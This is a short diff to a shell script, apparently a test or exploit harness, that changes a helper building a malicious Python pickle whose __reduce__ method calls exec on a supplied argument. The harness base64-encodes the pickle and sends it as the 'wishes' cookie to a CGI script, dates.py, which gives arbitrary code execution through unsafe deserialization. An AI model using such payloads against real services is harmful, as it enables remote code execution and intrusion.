@@ -244,7 +244,7 @@ unpickled() {
 	cookie=$(client python3 -c 'import base64, pickle, sys
 class Bait:
     def __reduce__(self):
-        return exec, (sys.argv[1],)
+        return exec, (sys.argv[1], {})
 print(base64.urlsafe_b64encode(pickle.dumps(Bait())).decode())' "$1")
 	cgi dates.py -b "wishes=$cookie"
 }
